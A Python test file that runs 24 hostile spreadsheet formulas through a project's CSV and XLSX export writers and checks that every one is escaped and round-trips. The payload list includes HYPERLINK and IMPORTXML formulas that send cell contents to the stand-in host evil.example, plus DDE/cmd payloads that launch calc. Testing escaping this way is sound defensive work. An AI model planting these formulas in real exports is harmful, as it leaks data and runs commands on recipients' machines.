"""R20 export formula injection: 24 hostile records through the CSV and XLSX writers."""

from __future__ import annotations

import csv
import datetime
import decimal
import io

import openpyxl
import pytest

from baogong.core.exports import (
    cell_restore,
    csv_export,
    csv_safe_cell,
    export_response,
    xlsx_export,
    xlsx_safe_cell,
)

# 24 texts a resident or a roster could carry that a spreadsheet would run as formulas.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A2,"查看")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "=SUM(A1:A9)",
    "+1+1",
    "+86 138 0000 0000",
    "-2+3+cmd|' /C calc'!A0",
    "-1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@张三",
    "\t=1+1",
    "\tnote",
    "\r=1+1",
    "\rnote",
    "＝1+1",
    '＝HYPERLINK("http://evil.example")',
    "＋1+1",
    "＋86",
    "－1+1",
    "－",
    "＠SUM(1)",
    "＠王五",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
]
assert len(set(HOSTILE)) == len(HOSTILE) == 24

HEADER = ["序号", "备注", "数量"]


def records() -> list[list[object]]:
    return [[f"r{i}", text, i - 5] for i, text in enumerate(HOSTILE)]


def test_csv_escapes_all_24_cells_and_quotes_every_field(record_property):
    data = csv_export(header=HEADER, rows=records())

    assert data.startswith("\ufeff".encode())
    text = data.decode("utf-8-sig")
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert parsed[0] == HEADER
    notes = [row[1] for row in parsed[1:]]
    assert notes == ["'" + value for value in HOSTILE]
    assert [cell_restore(note) for note in notes] == HOSTILE
    # RFC 4180: every field quoted, quotes doubled, CRLF between records.
    for value in HOSTILE:
        assert '"' + ("'" + value).replace('"', '""') + '"' in text
    assert text.count("\r\n") == 25  # header + 24 records; the notes hold a lone CR, never CRLF
    # Numbers the application produced stay numbers.
    assert [row[2] for row in parsed[1:]] == [str(i - 5) for i in range(24)]
    record_property("figure", "CSV: 24/24 cells escaped and quoted; 24/24 round-trip")


def test_xlsx_writes_no_formula_cells_and_the_text_round_trips(record_property):
    data = xlsx_export(header=HEADER, rows=records(), sheet_title="导出")

    workbook = openpyxl.load_workbook(io.BytesIO(data))
    sheet = workbook["导出"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.data_type for cell in cells if cell.data_type == "f"] == []
    assert [c.value for c in sheet[1]] == HEADER
    notes = [row[1].value for row in sheet.iter_rows(min_row=2)]
    # Line ends are LF in XLSX (XML parsers turn CR into LF).
    expected = ["'" + value.replace("\r", "\n") for value in HOSTILE]
    assert notes == expected
    assert [cell_restore(note) for note in notes] == [value.replace("\r", "\n") for value in HOSTILE]
    assert all(row[1].data_type == "s" for row in sheet.iter_rows(min_row=2))
    assert [row[2].value for row in sheet.iter_rows(min_row=2)] == [i - 5 for i in range(24)]
    assert all(row[2].data_type == "n" for row in sheet.iter_rows(min_row=2))
    record_property("figure", f"XLSX: 0 formula cells of {len(cells)}; 24/24 round-trip")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("王建国", "王建国"),
        ("1号楼", "1号楼"),
        ("'=1", "''=1"),
        ("'quoted", "''quoted"),
        ("a=b", "a=b"),
        ("\0=1", "'\0=1"),
        (None, ""),
        (-3, "-3"),
        (decimal.Decimal("-1.50"), "-1.50"),
        (True, "True"),
        (datetime.date(2022, 4, 1), "2022-04-01"),
    ],
)
def test_csv_safe_cell(value, expected):
    assert csv_safe_cell(value) == expected
    if isinstance(value, str):
        assert cell_restore(expected) == value


def test_xlsx_safe_cell_keeps_numbers_and_replaces_characters_xlsx_cannot_hold():
    assert xlsx_safe_cell(-3) == -3
    assert xlsx_safe_cell(decimal.Decimal("2.5")) == decimal.Decimal("2.5")
    assert xlsx_safe_cell(None) is None
    assert xlsx_safe_cell("\0=1") == "'\ufffd=1"
    assert xlsx_safe_cell("a\x01b") == "a\ufffdb"
    assert xlsx_safe_cell("a\r\nb") == "a\nb"


def test_export_response_is_an_attachment():
    response = export_response(data=b"x", filename="住户-households.csv", kind="csv")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == ("attachment; filename*=utf-8''%E4%BD%8F%E6%88%B7-households.csv")
    assert response.content == b"x"
